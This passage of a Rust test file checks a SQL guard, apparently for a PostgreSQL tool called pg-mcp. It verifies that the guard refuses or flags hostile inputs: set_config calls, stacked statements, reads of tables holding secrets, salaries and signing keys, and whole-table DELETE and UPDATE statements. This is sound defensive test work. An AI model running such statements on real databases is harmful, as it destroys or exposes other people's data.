    assert_eq!(err.code().as_str(), VALIDATION);
    assert!(matches!(err, GuardError::TooLong { max: 100_000, .. }));
}

#[test]
fn errors_have_stable_codes_and_messages() {
    assert_eq!(check("", &GuardConfig::default()), Err(GuardError::Empty));
    assert_eq!(
        check(" -- x\n", &GuardConfig::default()),
        Err(GuardError::Empty)
    );
    let syntax = check("SELEC 1", &GuardConfig::default()).unwrap_err();
    assert_eq!(syntax.code().as_str(), SYNTAX);
    assert!(
        syntax.to_string().starts_with("SQL syntax error: "),
        "{syntax}"
    );
    let unsafe_sql =
        check("SELECT set_config('a','b',false)", &GuardConfig::default()).unwrap_err();
    assert_eq!(
        unsafe_sql,
        GuardError::Unsafe {
            reason: "function set_config is not allowed".into(),
            construct: "set_config".into(),
        }
    );
    assert_eq!(unsafe_sql.to_string(), "function set_config is not allowed");
    assert_eq!(GuardError::Empty.code().as_str(), VALIDATION);
    assert_eq!(
        GuardError::TooLong { len: 2, max: 1 }.code().as_str(),
        VALIDATION
    );
    let multi = check("SELECT 1; SELECT 2; SELECT 3", &GuardConfig::default()).unwrap_err();
    assert_eq!(
        multi.to_string(),
        "multiple statements are not allowed: send one statement per request (found 3)"
    );
}

#[test]
fn long_statements_are_checked_on_a_big_enough_stack() {
    let cfg = GuardConfig::default();
    // Left-deep trees as deep as the text is long: the parser and the visitor cope, and dropping
    // the tree (which recurses per level) happens on a helper thread sized for it. Without that,
    // these overflow this 2 MiB test thread in a debug build.
    let deep_sum = format!("SELECT 1{}", "+1".repeat(30_000));
    assert_eq!(assert_accepted(&deep_sum, &cfg), StatementKind::Query);
    let deep_casts = format!("SELECT 1{}", "::int".repeat(15_000));
    assert_eq!(assert_accepted(&deep_casts, &cfg), StatementKind::Query);
    let deep_then_error = format!("SELECT 1{} +", "+1".repeat(30_000));
    assert_eq!(
        check(&deep_then_error, &cfg).unwrap_err().code().as_str(),
        SYNTAX
    );
    // Long statements get the same checks as short ones.
    let ids: Vec<String> = (1..=3_000).map(|i| i.to_string()).collect();
    let in_list = format!(
        "SELECT * FROM retail.orders WHERE order_id IN ({})",
        ids.join(", ")
    );
    assert_accepted(&in_list, &cfg);
    assert_refused(
        &format!("{in_list} AND set_config('a', 'b', false) IS NOT NULL"),
        &cfg,
        UNSAFE,
        "set_config",
    );
    assert_refused(
        &format!("{in_list}; COMMIT"),
        &cfg,
        UNSAFE,
        "multiple statements",
    );
}

#[test]
fn deep_nesting_never_overflows_the_stack() {
    let cfg = GuardConfig::default();
    let n = 5_000;
    for sql in [
        format!("SELECT {}1{}", "(".repeat(n), ")".repeat(n)),
        format!("SELECT {}1", "-".repeat(n)),
        format!("SELECT {}true", "NOT ".repeat(n)),
        format!("SELECT {}1{}", "abs(".repeat(n), ")".repeat(n)),
        format!("SELECT {}1{}", "ARRAY[".repeat(n), "]".repeat(n)),
        format!("SELECT {}", "(SELECT ".repeat(n)),
        format!("SELECT * FROM {}t{}", "(".repeat(n), ")".repeat(n)),
        format!("SELECT {}1 END", "CASE WHEN true THEN ".repeat(n)),
        format!("SELECT 1{}", "::int".repeat(n)),
        format!("SELECT 1{}", " + 1".repeat(n)),
        format!("SELECT x{}", ".y".repeat(n)),
        format!("SELECT a{}", "[1]".repeat(n)),
        format!("{}SELECT 1", "WITH a AS (".repeat(n)),
    ] {
        // Refused or accepted, but never a panic or a stack overflow.
        let _ = check(&sql, &cfg);
    }
}

/// Every prefix of every corpus string, in both modes: the guard never panics.
#[test]
fn no_panic_on_any_prefix_of_the_corpus() {
    let templates = SET_CONFIG_HIDING_PLACES
        .iter()
        .map(|t| t.replace("{S}", SWITCH));
    let corpus: Vec<String> = ATTACKS
        .iter()
        .map(|(sql, _, _)| sql.to_string())
        .chain(DENIED_CALLS.iter().map(|(sql, _)| sql.to_string()))
        .chain(templates)
        .chain(
            ACCEPT_RETAIL
                .iter()
                .chain(ACCEPT_DBA)
                .chain(SEED_003_QUERIES)
                .map(|s| s.to_string()),
        )
        .collect();
    // Parsing dominates the cost, so the two modes take turns rather than both parsing each prefix.
    let modes = [GuardConfig::default(), read_write()];
    let mut checked = 0usize;
    for sql in &corpus {
        for (i, _) in sql.char_indices().chain([(sql.len(), ' ')]) {
            let _ = check(&sql[..i], &modes[checked % 2]);
            checked += 1;
        }
    }
    assert!(checked > 10_000);
}

#[test]
fn relations_in_schemas_that_are_not_exposed_are_refused_by_name() {
    let saas_only = GuardConfig {
        exposure: crate::exposure::Exposure::new(&["saas".into()], &["pgmcp_private".into()]),
        ..GuardConfig::default()
    };
    for (sql, construct) in [
        ("SELECT * FROM internal.secrets", "internal.secrets"),
        (
            "SELECT * FROM saas.tasks t JOIN billing.invoices i USING (org_id)",
            "billing.invoices",
        ),
        ("SELECT (SELECT count(*) FROM hr.salaries)", "hr.salaries"),
        (
            "WITH x AS (SELECT * FROM \"Internal\".secrets) SELECT * FROM x",
            "internal.secrets",
        ),
        (
            "SELECT * FROM pgmcp_private.tenant_signing_key",
            "pgmcp_private.tenant_signing_key",
        ),
        (
            "SELECT * FROM mydb.internal.secrets",
            "mydb.internal.secrets",
        ),
    ] {
        assert_refused(sql, &saas_only, "UNSAFE_SQL", construct);
    }
    for sql in [
        "SELECT * FROM saas.tasks",
        "SELECT * FROM tasks",
        "SELECT count(*) FROM pg_catalog.pg_class",
        "SELECT * FROM information_schema.columns WHERE table_schema = 'saas'",
        "SELECT pgmcp.tenant_id()",
    ] {
        assert_accepted(sql, &saas_only);
    }
    // By default only pg-mcp's own schemas are hidden.
    assert_accepted("SELECT * FROM internal.secrets", &GuardConfig::default());
    assert_refused(
        "SELECT * FROM pgmcp_private.tenant_signing_key",
        &GuardConfig::default(),
        "UNSAFE_SQL",
        "pgmcp_private.tenant_signing_key",
    );
}

#[test]
fn updates_and_deletes_of_every_row_are_flagged() {
    let cfg = read_write();
    for sql in [
        "UPDATE retail.inventory SET stock_level = 0",
        "DELETE FROM retail.orders",
        "DELETE FROM retail.orders WHERE true",
        "UPDATE t SET a = 1 WHERE 1 = 1",
        "DELETE FROM t WHERE NOT false OR 2 > 1",
        "DELETE FROM t USING u",
    ] {
        let checked = check(sql, &cfg).unwrap_or_else(|e| panic!("{sql}: {e:?}"));
        assert!(checked.whole_table, "not flagged: {sql}");
    }
    for sql in [
        "UPDATE retail.inventory SET stock_level = 0 WHERE store_id = 1",
        "DELETE FROM retail.orders WHERE order_id = $1",
        "DELETE FROM t USING u WHERE t.id = u.id",
        "DELETE FROM t WHERE id IN (SELECT id FROM u)",
        "INSERT INTO t VALUES (1)",
        "SELECT * FROM t",
    ] {
        let checked = check(sql, &cfg).unwrap_or_else(|e| panic!("{sql}: {e:?}"));
        assert!(!checked.whole_table, "flagged: {sql}");
    }
}
